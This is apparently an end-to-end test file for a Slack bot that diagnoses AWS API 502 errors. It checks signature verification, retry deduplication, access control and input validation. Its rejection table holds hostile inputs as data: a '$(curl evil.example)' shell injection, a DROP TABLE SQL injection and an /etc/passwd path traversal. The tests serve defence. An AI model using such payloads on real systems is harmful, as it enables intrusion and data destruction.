/**
 * The slash command end to end: signed HTTP requests to the real bot, the Slack API stand-in
 * and the simulated AWS account (timeout scenario, API k7x2m9q4ta).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CHANNEL, SIGNING_SECRET, startBotHarness, textOf, type BotHarness } from '../../helpers/slack/bot-harness.ts';
import { postSigned, slashCommandBody, slackSignature } from '../../helpers/slack/sign-slack-request.ts';

const TIMEOUT_API = 'k7x2m9q4ta';
const PERMISSION_API = 'p9r4m1s6xc';
const PNG_MAGIC = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

let h: BotHarness;
beforeAll(async () => {
  h = await startBotHarness({
    configYaml: [
      'access:',
      `  channels: [${CHANNEL}, C0OTHER]`,
      '  users: [U0ALICE, U0BOB]',
      '  usergroups: [S0ONCALL]',
      'apis:',
      `  ${PERMISSION_API}: { region: us-east-1 }`,
    ].join('\n'),
    slack: { usergroups: { S0ONCALL: ['U0CAROL'] } },
  });
});
afterAll(async () => h?.close());

/** Parent messages (top level, posted by the bot) about one API. */
const parentsFor = (apiId: string, channel = CHANNEL) => h.parents(channel).filter((m) => textOf(m).includes(apiId));

describe('/diagnose-502 over HTTP', () => {
  it('answers /healthz with 200 once ready', async () => {
    const res = await fetch(`http://127.0.0.1:${h.bot.port}/healthz`);
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ ok: true });
  });

  it('acknowledges at once, then builds the thread: parent, evidence, verdict with its cause, chart, checklist', async () => {
    // Act
    const started = performance.now();
    const res = await h.command(`${TIMEOUT_API} prod`);
    const ackMs = performance.now() - started;
    // Assess: the acknowledgement
    expect(res.status).toBe(200);
    expect(ackMs).toBeLessThan(3000);
    await h.bot.idle();

    const [parent, ...others] = parentsFor(TIMEOUT_API);
    expect(others).toHaveLength(0);
    const parentText = textOf(parent!);
    expect(parentText).toContain('orders-api');
    expect(parentText).toContain('`prod`');
    expect(parentText).toContain('<@U0ALICE>');
    expect(parentText).toMatch(/Suspected cause: timeout/);
    // Kept current in place: it first said it was collecting.
    expect(parent!.edits.length).toBeGreaterThan(0);
    expect(parent!.edits[0]!.text).toMatch(/Collecting evidence/);

    const thread = h.slack.state.thread(CHANNEL, parent!.ts);
    const evidence = thread.find((m) => m.text.startsWith('Evidence for orders-api'));
    const verdict = thread.find((m) => m.text.startsWith('Verdict for orders-api'));
    const chart = thread.find((m) => m.files.some((f) => f.name.endsWith('.png')));
    expect(evidence && textOf(evidence)).toMatch(/5XXError/);
    expect(verdict && textOf(verdict)).toMatch(/timeout/);
    expect(chart?.files[0]?.bytes?.subarray(0, 8).equals(PNG_MAGIC)).toBe(true);
    expect(thread.some((m) => m.text.startsWith('Checklist:'))).toBe(true);
    // Order in the thread: evidence, verdict, chart.
    expect(thread.indexOf(evidence!)).toBeLessThan(thread.indexOf(verdict!));
    expect(thread.indexOf(verdict!)).toBeLessThan(thread.indexOf(chart!));
    // Every message the bot sent passed the stand-in's Block Kit checks.
    expect(h.slack.calls.filter((c) => !c.ok)).toEqual([]);
  });

  it('acknowledges with a visible line naming the API, so a crash before the thread is not silent (issue 11, finding 13)', async () => {
    // Act
    const res = await h.command(`${TIMEOUT_API} prod`);
    const body = await res.text();
    await h.bot.idle();

    // Assess: the 200 itself carries the ephemeral line; a crash after it leaves it on screen
    expect(res.status).toBe(200);
    expect(JSON.parse(body)).toEqual({
      response_type: 'ephemeral',
      text: `Received \`${TIMEOUT_API}\` \`prod\`. A diagnosis thread follows in this channel, or a note saying why not; if neither comes within a minute, run the command again.`,
    });
  });

  it('ends a diagnosis of an unknown API with the reason in the parent message, and no verdict', async () => {
    await h.command('zzzzzzzzzz prod');
    await h.bot.idle();
    const [parent] = parentsFor('zzzzzzzzzz');
    expect(textOf(parent!)).toMatch(/Status:\* No REST or HTTP API with id zzzzzzzzzz/);
    expect(h.slack.state.thread(CHANNEL, parent!.ts).filter((m) => m.text.startsWith('Verdict for'))).toEqual([]);
  });

  it('refuses a wrong, stale or missing signature with 401 and starts nothing', async () => {
    h.sim.resetCalls();
    const before = h.slack.state.messages().length;
    const body = slashCommandBody({ text: `${TIMEOUT_API} prod` });
    const nowS = Math.floor(Date.now() / 1000);
    const wrong = await postSigned(h.eventsUrl(), body, { signingSecret: 'not-the-secret' });
    const stale = await postSigned(h.eventsUrl(), body, { signingSecret: SIGNING_SECRET, timestamp: nowS - 6 * 60 });
    const tampered = await postSigned(h.eventsUrl(), body, { signingSecret: SIGNING_SECRET, signature: slackSignature(`${body}x`, SIGNING_SECRET, nowS) });
    const unsigned = await fetch(h.eventsUrl(), { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body });
    expect([wrong.status, stale.status, tampered.status, unsigned.status]).toEqual([401, 401, 401, 401]);
    await h.bot.idle();
    expect(h.slack.state.messages().length).toBe(before);
    expect(h.sim.calls).toEqual([]);
  });

  it('refuses a correctly signed request stamped more than 5 minutes in the future (issue 11, finding 11)', async () => {
    h.sim.resetCalls();
    const before = h.slack.state.messages().length;
    const body = slashCommandBody({ text: `${TIMEOUT_API} prod` });
    const nowS = Math.floor(Date.now() / 1000);
    const ahead = await postSigned(h.eventsUrl(), body, { signingSecret: SIGNING_SECRET, timestamp: nowS + 10 * 60 });
    const farAhead = await postSigned(h.eventsUrl(), body, { signingSecret: SIGNING_SECRET, timestamp: nowS + 24 * 60 * 60 });
    expect([ahead.status, farAhead.status]).toEqual([401, 401]);
    await h.bot.idle();
    expect(h.slack.state.messages().length).toBe(before);
    expect(h.sim.calls).toEqual([]);
  });

  it('never starts a second diagnosis for a Slack retry of the same command', async () => {
    // Prepare: one command body, delivered three times as Slack would on a slow acknowledgement.
    const body = slashCommandBody({ text: `${PERMISSION_API} prod`, response_url: h.slack.responseUrl(CHANNEL, 'U0ALICE') });
    // Act
    const first = await postSigned(h.eventsUrl(), body, { signingSecret: SIGNING_SECRET });
    const retry = await postSigned(h.eventsUrl(), body, {
      signingSecret: SIGNING_SECRET,
      headers: { 'x-slack-retry-num': '1', 'x-slack-retry-reason': 'http_timeout' },
    });
    // A redelivery without the header (same trigger_id) is caught by the store's claim.
    const redelivery = await postSigned(h.eventsUrl(), body, { signingSecret: SIGNING_SECRET });
    await h.bot.idle();
    // Assess
    expect([first.status, retry.status, redelivery.status]).toEqual([200, 200, 200]);
    const parents = parentsFor(PERMISSION_API);
    expect(parents).toHaveLength(1);
    expect(textOf(parents[0]!)).toMatch(/Suspected cause: permission/);
  });

  it.each([
    ['help', 'help'],
    ['a missing stage', TIMEOUT_API],
    ['too many values', `${TIMEOUT_API} prod us-east-1 extra`],
    ['shell injection', '$(curl evil.example) prod'],
    ['SQL-ish injection', `${TIMEOUT_API} prod';DROP TABLE diagnoses;--`],
    ['a path in the stage', `${TIMEOUT_API} ../../etc/passwd`],
    ['a filter-pattern injection', `${TIMEOUT_API} "prod" ?ERROR`],
    ['mrkdwn and mentions', '<!channel> <@U0BOB>'],
    ['a made-up region', `${TIMEOUT_API} prod Europe`],
    // An empty command is a scan and a bare word is an API name (both tested in
    // discovery-command.e2e.test.ts); a name with punctuation is neither.
    ['a name with punctuation', 'abc!x prod'],
    ['5 KB of text', 'x'.repeat(5 * 1024)],
    ['unicode look-alikes', 'k7x2m9q4tа prod'],
  ])('answers %s with the usage, ephemerally, and calls no AWS API', async (_label, text) => {
    h.sim.resetCalls();
    const before = h.slack.state.messages().length;
    const res = await h.command(text);
    expect(res.status).toBe(200);
    const body = (await res.json()) as { response_type: string; text: string };
    expect(body.response_type).toBe('ephemeral');
    expect(body.text).toContain('Usage: `/diagnose-502 <api-id> <stage> [region]`');
    // Nothing the user typed is echoed back.
    if (text.length > 3) expect(body.text).not.toContain(text);
    await h.bot.idle();
    expect(h.sim.calls).toEqual([]);
    expect(h.slack.state.messages().length).toBe(before);
  });

  it('refuses a user outside the access list with an ephemeral message and no AWS call', async () => {
    h.sim.resetCalls();
    const res = await h.command(`${TIMEOUT_API} prod`, { user_id: 'U0MALLORY', user_name: 'mallory' });
    expect(res.status).toBe(200);
    // The refusal follows the acknowledgement through response_url.
    await h.bot.idle();
    const [refusal, ...more] = h.slack.state.ephemeral('U0MALLORY');
    expect(more).toEqual([]);
    expect(refusal?.via).toBe('response_url');
    expect(refusal?.text).toMatch(/not allowed to run diagnose-502.*<@U0ALICE>, <@U0BOB>, <!subteam\^S0ONCALL>/);
    expect(h.sim.calls).toEqual([]);
  });

  it('refuses the command in a channel the config does not list', async () => {
    h.sim.resetCalls();
    await h.command(`${TIMEOUT_API} prod`, { channel_id: 'C0RANDOM', user_id: 'U0BOB' });
    await h.bot.idle();
    expect(h.slack.state.ephemeral('U0BOB').at(-1)?.text).toMatch(/not enabled in this channel\. Use it in <#C0INCIDENT>, <#C0OTHER>/);
    expect(h.sim.calls).toEqual([]);
  });

  it('lets a member of an allowed user group run it', async () => {
    await h.command(`${TIMEOUT_API} prod`, { channel_id: 'C0OTHER', user_id: 'U0CAROL' });
    await h.bot.idle();
    const parents = parentsFor(TIMEOUT_API, 'C0OTHER');
    expect(parents).toHaveLength(1);
    expect(textOf(parents[0]!)).toContain('<@U0CAROL>');
  });
});
